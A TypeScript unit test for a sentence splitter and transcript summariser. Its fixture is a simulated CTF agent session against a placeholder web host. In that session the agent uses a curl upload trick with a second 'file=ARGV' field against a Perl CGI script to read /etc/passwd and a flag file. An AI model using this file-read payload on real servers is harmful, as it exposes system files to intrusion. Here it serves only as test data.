/**
 * Sentences (src/engine/facts/text.ts splitSentences): the unit every conclusion, finding
 * and condensed line is read in. Then the class the joined-sentence split serves: a
 * text-only agent's transcript whose line breaks were lost, so one sentence ends where the
 * next begins ("…the form.Let's create…"), compacted in every format.
 */
import t from 'tap'
import { splitSentences } from '../../../src/engine/facts/text.ts'
import { compactAllFormats } from '../../helpers/compact-all-formats.ts'

t.test('splitSentences: at a stop and a space, at a line break, and where a stop joins two sentences', async (t) => {
  t.same(splitSentences('The cache is cold. It misses every read.\nNext line'), ['The cache is cold.', 'It misses every read.', 'Next line'])
  t.same(splitSentences('I read the upload form.Let\'s create printenv.pl to test it.'), ['I read the upload form.', "Let's create printenv.pl to test it."], 'a stop with no space before a capitalised word')
  t.same(splitSentences('It printed the `id` output!Now the flag.'), ['It printed the `id` output!', 'Now the flag.'])
  for (const kept of ['Node.js and Vue.js are installed.', 'See e.g. the docs.', 'Version 3.11.Beta is out.', 'The file is config.JSON here.', 'os.Path is used.', 'A subclass of models.Model is needed.', 'It extends React.Component as before.'])
    t.same(splitSentences(kept), [kept], `not split: ${kept}`)
})

/** A text-only CTF-style agent whose discussion lost its line breaks. */
function joinedProseSession(): Record<string, unknown>[] {
  const turn = (discussion: string, command: string, observation: string) => [
    { role: 'assistant', content: `DISCUSSION\n${discussion}\n\`\`\`\n${command}\n\`\`\`` },
    { role: 'user', content: observation },
  ]
  const page = (title: string) => `<html><head><title>${title}</title></head><body>\n${Array.from({ length: 30 }, (_, k) => `<p>line ${k} of ${title}: nothing of note here, only filler text for the page body</p>`).join('\n')}\n</body></html>`
  return [
    { role: 'system', content: 'You are a CTF player in a shell. Write one command per reply in a code block.' },
    { role: 'user', content: 'Solve the web challenge on web.example.test port 8000 and submit the flag.' },
    ...turn('First I will look at the index page.', 'curl http://web.example.test:8000/', page('Perl Examples')),
    ...turn('The index lists a file upload script.I will use `curl -F` to upload printenv.pl, because the upload form accepts any file.', 'curl -F "file=@printenv.pl" http://web.example.test:8000/cgi-bin/file.pl', page('Perl File Upload')),
    ...turn('The upload echoed the file back.The root cause is that `param()` returns a list, so a second `file` value is read as a path.', 'curl -F "file=ARGV" -F "file=@printenv.pl" http://web.example.test:8000/cgi-bin/file.pl?/etc/passwd', `root:x:0:0:root:/root:/bin/bash\n${page('Perl File Upload')}`),
    ...turn('That read /etc/passwd.Now the flag file.', 'curl -F "file=ARGV" -F "file=@printenv.pl" http://web.example.test:8000/cgi-bin/file.pl?/flag', `FLAG{joined_sentences}\n${page('Perl File Upload')}`),
    { role: 'assistant', content: 'DISCUSSION\nThe flag is printed; submitting it.\n```\nsubmit FLAG{joined_sentences}\n```' },
  ]
}

t.test('joined sentences: each conclusion is its own sentence, in every format', async (t) => {
  const runs = await compactAllFormats(joinedProseSession(), 0.4, { keepRecent: 1 })
  const texts = new Set(runs.map((r) => r.summary))
  t.equal(texts.size, 1, 'one summary in every format')
  const text = [...texts][0]!
  t.match(text, /^- Root cause: The root cause is that `param\(\)` returns a list, so a second `file` value is read as a path\.$/m, 'the root cause, without the sentence glued before it')
  t.match(text, /^- I will use `curl -F` to upload printenv\.pl, because the upload form accepts any file\.$/m, 'the decision, alone')
  t.notMatch(text, /script\.I will|back\.The root/, 'no two sentences read as one')
})
